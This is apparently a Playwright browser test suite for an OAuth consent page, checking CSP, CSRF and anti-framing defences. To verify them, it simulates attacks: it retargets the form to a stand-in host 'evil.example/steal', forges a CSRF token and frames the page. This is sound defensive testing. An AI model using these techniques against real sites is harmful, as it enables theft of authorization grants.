// Drives the consent page in a real browser (Debian's chromium through
// playwright-core). Started by handler/browser_consent_test.go, which runs
// the stack and passes everything in the environment:
//   BASE_URL, AUTHORIZE_URL (approve run), AUTHORIZE_URL_DENY,
//   REDIRECT_URI, EMULATOR_URL, EMULATOR_SPKI (pin for the emulator's
//   self-signed cert),
//   ARTIFACTS_DIR (screenshots).
// Prints "N passed, N failed" and exits non-zero on any failure.
import { chromium } from 'playwright-core';
import { writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';

const env = process.env;
const artifacts = env.ARTIFACTS_DIR || '.';
mkdirSync(artifacts, { recursive: true });
let passed = 0, failed = 0;
async function check(name, fn) {
  try { await fn(); passed++; console.log(`ok   ${name}`); }
  catch (e) { failed++; console.log(`FAIL ${name}: ${e.message}`); }
}
function assert(cond, msg) { if (!cond) throw new Error(msg); }

// directive returns the sources of one CSP directive, or undefined.
function directive(csp, name) {
  for (const d of (csp || '').split(';')) {
    const [n, ...sources] = d.trim().split(/\s+/);
    if (n === name) return sources;
  }
  return undefined;
}

const browser = await chromium.launch({
  executablePath: env.CHROMIUM || '/usr/bin/chromium',
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
    '--disable-quic', '--no-first-run', '--disable-component-update', '--disable-sync',
    // Trust exactly the emulator's certificate, nothing else.
    `--ignore-certificate-errors-spki-list=${env.EMULATOR_SPKI}`],
});

// newContext returns a fresh browser profile whose navigations to the MCP
// client's redirect URI are answered here (nothing listens there) and
// recorded.
async function newContext() {
  const context = await browser.newContext();
  const landed = [];
  await context.route(u => u.href.startsWith(env.REDIRECT_URI), route => {
    landed.push(route.request().url());
    route.fulfill({ status: 200, contentType: 'text/html', body: '<p>client callback</p>' });
  });
  return { context, landed };
}

try {
  await check('approve: consent page, Entra sign-in, code back to the client', async () => {
    const { context, landed } = await newContext();
    const page = await context.newPage();
    const resp = await page.goto(env.AUTHORIZE_URL);
    assert(page.url().startsWith(env.BASE_URL + '/consent?'), `landed on ${page.url()}`);
    const h = resp.headers();
    assert(/frame-ancestors 'none'/.test(h['content-security-policy'] || ''), `CSP: ${h['content-security-policy']}`);
    assert(h['x-frame-options'] === 'DENY', `X-Frame-Options: ${h['x-frame-options']}`);
    assert(h['cache-control'] === 'no-store', `Cache-Control: ${h['cache-control']}`);
    // The form posts to /consent, which redirects to Entra (Approve) or to
    // the client (Deny); Entra may come straight back through /callback to
    // the client. Chromium checks form-action on each of those redirects,
    // so exactly these origins are allowed, nothing wider.
    const fa = directive(h['content-security-policy'], 'form-action');
    const want = ["'self'", new URL(env.EMULATOR_URL).origin, new URL(env.REDIRECT_URI).origin];
    assert(fa && fa.length === want.length && want.every(s => fa.includes(s)),
      `form-action ${JSON.stringify(fa)}, want ${JSON.stringify(want)}`);
    assert((await page.textContent('#client-name')) === 'Browser Test Client', 'client name not shown');
    assert((await page.textContent('#redirect-host')) === new URL(env.REDIRECT_URI).host, 'redirect host not shown');
    assert((await page.textContent('#scopes')).includes('mcp:tools'), 'scopes not listed');
    assert((await page.getAttribute('#account-link', 'href')) === '/account', 'no link to the connected-apps page');
    writeFileSync(join(artifacts, 'consent-page.png'), await page.screenshot({ fullPage: true }));
    await page.click('#approve');
    await page.waitForSelector('button[name=user]');
    writeFileSync(join(artifacts, 'emulator-sign-in.png'), await page.screenshot({ fullPage: true }));
    await page.click('button[name=user][value="AdeleV@contoso.example"]');
    await page.waitForURL(u => u.href.startsWith(env.REDIRECT_URI));
    const q = new URL(landed[0]).searchParams;
    assert(q.get('code') && q.get('state') === 'browser-approve' && q.get('iss') === env.BASE_URL, `callback ${landed[0]}`);
    const cookies = await context.cookies(env.BASE_URL);
    for (const c of cookies) assert(c.httpOnly, `cookie ${c.name} is not HttpOnly`);
    await context.close();
  });

  await check('deny: access_denied goes back to the client with state and iss', async () => {
    const { context, landed } = await newContext();
    const page = await context.newPage();
    await page.goto(env.AUTHORIZE_URL_DENY);
    await page.click('#deny');
    await page.waitForURL(u => u.href.startsWith(env.REDIRECT_URI));
    const q = new URL(landed[0]).searchParams;
    assert(q.get('error') === 'access_denied' && q.get('state') === 'browser-deny' && q.get('iss') === env.BASE_URL, `callback ${landed[0]}`);
    assert(!q.get('code'), 'a code came back after Deny');
    await context.close();
  });

  await check('a POST without the CSRF token is refused', async () => {
    const { context } = await newContext();
    const page = await context.newPage();
    await page.goto(env.AUTHORIZE_URL_DENY.replace('browser-deny', 'browser-csrf'));
    const request = await page.inputValue('input[name=request]');
    // Same browser profile (its cookies, including the CSRF cookie, go
    // along), same origin, but no csrf_token field. The page's own CSP
    // forbids fetch(), so the request goes through the context's API.
    const post = async (form) => (await context.request.post(env.BASE_URL + '/consent', {
      form, maxRedirects: 0, headers: { Origin: env.BASE_URL } })).status();
    const status = await post({ request, decision: 'approve' });
    assert(status === 403, `status ${status}`);
    const forged = await post({ request, decision: 'approve', csrf_token: 'forged' });
    assert(forged === 403, `forged token status ${forged}`);
    await context.close();
  });

  await check('form-action: the consent form cannot be sent anywhere else', async () => {
    const { context } = await newContext();
    let reached = false;
    await context.route('https://evil.example/**', route => { reached = true; route.fulfill({ status: 200, body: 'stolen' }); });
    const page = await context.newPage();
    await page.goto(env.AUTHORIZE_URL_DENY.replace('browser-deny', 'browser-form-action'));
    const consentURL = page.url();
    // Injected markup (say, through a bug elsewhere) retargets the form;
    // the page's CSP must stop the submission.
    const violated = await page.evaluate(() => new Promise(resolve => {
      document.addEventListener('securitypolicyviolation', e => resolve(e.effectiveDirective));
      const f = document.querySelector('form');
      f.action = 'https://evil.example/steal';
      f.requestSubmit(document.querySelector('#approve'));
      setTimeout(() => resolve('none'), 3000);
    }));
    await page.waitForTimeout(500);
    assert(violated === 'form-action', `violation: ${violated}`);
    assert(!reached && page.url() === consentURL, `the form reached ${reached ? 'evil.example' : page.url()}`);
    await context.close();
  });

  await check("Chromium applies form-action to the redirects after the post ('self' alone blocks Deny)", async () => {
    // Why the redirect origins are in the policy: serve the same page with
    // form-action 'self' only, and Deny's 302 to the client is refused.
    const { context, landed } = await newContext();
    const page = await context.newPage();
    await page.goto(env.AUTHORIZE_URL_DENY.replace('browser-deny', 'browser-self-only'));
    // Playwright routes no redirected request, so load the page once more,
    // directly, through a route that narrows the policy.
    const consentURL = page.url();
    await context.route(consentURL, async route => {
      const resp = await route.fetch();
      const headers = { ...resp.headers() };
      headers['content-security-policy'] = headers['content-security-policy'].replace(/form-action[^;]*/, "form-action 'self'");
      await route.fulfill({ response: resp, headers });
    });
    await page.goto(consentURL);
    const violated = page.evaluate(() => new Promise(resolve => {
      document.addEventListener('securitypolicyviolation', e => resolve(e.effectiveDirective + ' ' + e.blockedURI));
      setTimeout(() => resolve('none'), 4000);
    }));
    await page.click('#deny');
    const v = await violated.catch(e => 'navigated: ' + e.message);
    await page.waitForTimeout(500);
    assert(landed.length === 0, `the client was reached (${v}): ${landed[0]}`);
    // The report names the URL the form was sent to, not the redirect
    // target (CSP hides where a redirect led): the POST itself was allowed,
    // its redirect to the client was not.
    assert(v === `form-action ${env.BASE_URL}/consent`, `violation: ${v}`);
    await context.unroute(consentURL);
    const again = await page.goto(consentURL);
    assert(again.status() === 400, `the POST never reached the server: the request is still pending (${again.status()})`);
    await context.close();
  });

  await check('the consent page refuses to render in a frame', async () => {
    const { context } = await newContext();
    const page = await context.newPage();
    await page.goto(env.AUTHORIZE_URL_DENY.replace('browser-deny', 'browser-frame'));
    const consentURL = page.url();
    const attacker = await context.newPage();
    await attacker.setContent(`<iframe id="f" src="${consentURL}" width="600" height="400"></iframe>`);
    await attacker.waitForTimeout(1500);
    const frame = attacker.frames().find(f => f !== attacker.mainFrame());
    const approve = frame ? await frame.$('#approve').catch(() => null) : null;
    assert(!approve, 'the Approve button rendered inside a frame');
    writeFileSync(join(artifacts, 'consent-framed.png'), await attacker.screenshot());
    await context.close();
  });
} finally {
  await browser.close();
}
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
